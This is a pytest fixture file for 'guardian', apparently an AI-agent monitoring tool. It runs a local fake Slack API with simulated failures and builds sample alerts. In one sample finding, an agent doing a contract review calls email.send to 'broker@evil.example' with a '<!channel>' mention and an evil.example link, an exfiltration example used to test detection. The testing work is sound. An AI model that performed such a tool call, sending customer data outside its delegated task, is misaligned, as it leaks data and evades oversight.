"""A Slack of our own: the Web API methods that guardian uses, with Slack's documented limits enforced."""

import json
import socket
import threading
from collections import deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs

import pytest

from guardian.alerting.port import Alert, AlertOutcome
from guardian.alerting.slack import SlackChannel, SlackOptions
from guardian.domain.finding import (
    Act,
    Effect,
    Evidence,
    Finding,
    Kind,
    NamedBreach,
    Reason,
    Subject,
    finding_id,
)

TOKEN = "xoxb-test-1"
CHANNEL = "C0SECURITY"
BOT, USER = "B0GUARDIAN", "U0GUARDIAN"
LIMITS = {"section": 3000, "header": 150, "context": 3000}


def limits_broken(blocks: list[dict[str, Any]]) -> list[str]:
    """Every documented limit that the blocks break; https://docs.slack.dev/reference/block-kit/blocks."""
    wrong = [] if len(blocks) <= 50 else ["more than 50 blocks"]
    for block in blocks:
        kind = block["type"]
        match kind:
            case "header":
                if block["text"]["type"] != "plain_text":
                    wrong.append("header must be plain_text")
                texts, most = [block["text"]["text"]], 150
            case "section":
                fields = block.get("fields", [])
                if len(fields) > 10:
                    wrong.append("more than 10 fields")
                wrong += ["field over 2000" for text in fields if len(text["text"]) > 2000]
                texts = [block["text"]["text"]] if "text" in block else [text["text"] for text in fields]
                most = 3000
                if not texts:
                    wrong.append("a section without text")
            case "context":
                if not 1 <= len(block["elements"]) <= 10:
                    wrong.append("context elements must be 1 to 10")
                texts, most = [text["text"] for text in block["elements"]], 3000
            case _:
                wrong.append(f"unknown block {kind}")
                continue
        wrong += [
            f"{kind} text must be 1 to {most}, is {len(text)}" for text in texts if not 1 <= len(text) <= most
        ]
    if sum(len(json.dumps(block, ensure_ascii=False)) for block in blocks) > 13_000:
        wrong.append("all blocks together over 13000")
    return wrong


@dataclass
class FakeSlack:
    """What Slack holds, and a script of troubles: each post takes the next one, "" for none.

    429[:seconds], 500, refuse:ERROR, drop (nothing stored), drop_after (stored, answer lost), garbage_after,
    slow_after (stored, then no answer in time). `read_troubles` is the same for the other methods.
    """

    url: str = ""
    scopes: set[str] = field(default_factory=lambda: {"chat:write", "channels:history"})
    messages: list[dict[str, Any]] = field(default_factory=list)
    troubles: deque[str] = field(default_factory=deque)
    read_troubles: deque[str] = field(default_factory=deque)
    calls: list[str] = field(default_factory=list)
    posts_seen: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)
    release: threading.Event = field(default_factory=threading.Event)

    def store(self, body: dict[str, Any], *, bot: str = BOT, user: str = USER) -> dict[str, Any]:
        ts = f"{1764021600 + len(self.messages)}.000100"
        message = {"type": "message", "ts": ts, "bot_id": bot, "user": user, **body}
        self.messages.append(message)
        return message

    def call(self, method: str, token: str, body: dict[str, Any]) -> dict[str, Any]:
        if token != f"Bearer {TOKEN}":
            return {"ok": False, "error": "invalid_auth"}
        match method:
            case "auth.test":
                return {"ok": True, "bot_id": BOT, "user_id": USER, "team": "T0"}
            case "chat.postMessage" | "chat.update":
                return self._write(method, body)
            case "conversations.history":
                return self._history(body)
            case _:
                return {"ok": False, "error": "unknown_method"}

    def _write(self, method: str, body: dict[str, Any]) -> dict[str, Any]:
        if "chat:write" not in self.scopes:
            return {"ok": False, "error": "missing_scope", "needed": "chat:write"}
        if body.get("channel") != CHANNEL:
            return {"ok": False, "error": "channel_not_found"}
        if not body.get("text") and not body.get("blocks"):
            return {"ok": False, "error": "no_text"}
        if len(body.get("text", "")) > 40_000:
            return {"ok": False, "error": "msg_too_long"}
        if limits_broken(body.get("blocks", [])):
            return {"ok": False, "error": "invalid_blocks"}
        if method == "chat.update":
            for message in self.messages:
                if message["ts"] == body["ts"]:
                    message.update(body)
                    return {"ok": True, "channel": CHANNEL, "ts": body["ts"]}
            return {"ok": False, "error": "message_not_found"}
        message = self.store(body)
        return {"ok": True, "channel": CHANNEL, "ts": message["ts"], "message": message}

    def _history(self, body: dict[str, Any]) -> dict[str, Any]:
        if "channels:history" not in self.scopes:
            return {"ok": False, "error": "missing_scope", "needed": "channels:history"}
        newest_first = [m for m in reversed(self.messages) if float(m["ts"]) > float(body.get("oldest", 0))]
        start, limit = int(body.get("cursor") or 0), min(int(body.get("limit", 100)), 999)
        page = newest_first[start : start + limit]
        if body.get("include_all_metadata") not in (True, "1", "true", "True"):
            page = [{key: value for key, value in m.items() if key != "metadata"} for m in page]
        more = str(start + limit) if start + limit < len(newest_first) else ""
        return {"ok": True, "messages": page, "response_metadata": {"next_cursor": more}}


class _Front(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    slack: FakeSlack

    def do_POST(self) -> None:
        raw = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if "json" in self.headers.get("Content-Type", ""):
            body = json.loads(raw or b"{}")
        else:
            body = {name: values[0] for name, values in parse_qs(raw.decode()).items()}
        method = self.path.rsplit("/", 1)[-1].split("?")[0]
        slack = self.slack
        with slack.lock:
            slack.calls.append(method)
            troubles = slack.troubles if method.startswith("chat.") else slack.read_troubles
            trouble = troubles.popleft() if troubles else ""
            kind, _, detail = trouble.partition(":")
            stored = kind in ("", "drop_after", "garbage_after", "slow_after")
            answer = slack.call(method, self.headers.get("Authorization", ""), body) if stored else {}
        match kind:
            case "":
                self._answer(200, json.dumps(answer).encode())
            case "429":
                self._answer(429, b'{"ok":false,"error":"ratelimited"}', {"Retry-After": detail or "1"})
            case "500":
                self._answer(500, b"<html>oops</html>")
            case "refuse":
                self._answer(200, json.dumps({"ok": False, "error": detail}).encode())
            case "garbage_after":
                self._answer(200, b"<html>half an ans")
            case "slow_after":
                slack.release.wait(10)
                self._hang_up()
            case _:
                self._hang_up()

    def _hang_up(self) -> None:
        self.close_connection = True
        self.connection.shutdown(socket.SHUT_RDWR)

    def _answer(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        for name, value in {"Content-Type": "application/json", **(headers or {})}.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Be quiet."""


@dataclass
class Time:
    """A clock that moves only when somebody sleeps on it."""

    seconds: float = 0.0
    slept: list[float] = field(default_factory=list)

    def clock(self) -> float:
        return self.seconds

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        self.seconds += seconds

    def now(self) -> datetime:
        return datetime(2026, 5, 12, 17, 5, tzinfo=UTC) + timedelta(seconds=self.seconds)


@pytest.fixture
def slack(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeSlack]:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    fake = FakeSlack()
    front = ThreadingHTTPServer(("127.0.0.1", 0), type("Front", (_Front,), {"slack": fake}))
    front.daemon_threads = True
    fake.url = f"http://127.0.0.1:{front.server_address[1]}/api/"
    thread = threading.Thread(target=front.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    yield fake
    fake.release.set()
    front.shutdown()
    thread.join()
    front.server_close()


@pytest.fixture
def time() -> Time:
    return Time()


@pytest.fixture
def channel(slack: FakeSlack, time: Time) -> SlackChannel:
    options = SlackOptions(channel=CHANNEL, token=TOKEN, base_url=slack.url, timeout=1)
    return options.open(clock=time.clock, sleep=time.sleep)


@pytest.fixture
def broken_limits() -> Callable[[list[dict[str, Any]]], list[str]]:
    return limits_broken


@pytest.fixture
def make_alert() -> Callable[..., Alert]:
    """The renewal review that slid to an outbound e-mail; `changes` go to the finding."""

    def make(n: int = 1, *, outcome: AlertOutcome | None = None, link: str | None = None, **changes: Any) -> Alert:
        at = datetime(2025, 11, 24, 17, 4, 11, tzinfo=UTC)
        finding = Finding(
            id=finding_id(Kind.DRIFT, "tenant_acme", f"sess_{n}", 0, 1),
            kind=Kind.DRIFT,
            tenant_id="tenant_acme",
            session_id=f"sess_{n}",
            transition=1,
            wanted=Effect.REVOKE,
            severity="critical",
            title="A renewal review sends customer data to an outside address",
            subject=Subject(
                delegator_id="user_7f3a91",
                agent_id="agent_renewal_review",
                task_id="task_contract_renewal_review_8842",
                purpose="review_customer_contract_for_renewal_risk",
                expires_at=at + timedelta(hours=1),
            ),
            act=Act(
                decision_id="dec_9",
                gateway="mcp-gw-eu-1",
                tool="email.send",
                arguments='{"to": "broker@evil.example", "body": "<!channel> see https://evil.example"}',
                argument="to",
                time=at,
            ),
            reasons=(
                Reason(signal="purpose_fit", share=0.55, value=0.97, text="sending e-mail is no part of a review"),
                Reason(signal="envelope_breach", share=0.3, value=1.0, text="email.send is not in allowed_tools"),
                Reason(signal="purpose_baseline", share=0.12, value=0.8, text="never seen in 214 past sessions"),
                Reason(signal="denial_pressure", share=0.03, value=0.2, text="one denial"),
            ),
            breaches=(NamedBreach(name="tool_not_allowed", detail="email.send is not delegated", hard=True),),
            evidence=Evidence(score=0.96, p_value=0.001, session_evidence=3.4, one_in=1250.0, actions_seen=7),
            features_missing=("result", "trace_id"),
            versions={"model": "drift-1", "policy": "p7"},
            correlation_id="cor_1",
            time=at,
        )
        return Alert(
            finding=finding.model_copy(update=changes),
            outcome=outcome
            or AlertOutcome(
                effect=Effect.REVOKE,
                allowed=True,
                note="strong evidence, budget left",
                policy_ids=("guardian-may-revoke-on-strong-evidence",),
                mode="enforce",
            ),
            link=link or "https://guardian.example/findings/1?tenant=a&case=2",
            case=f"tenant_acme/sess_{n}",
        )

    return make
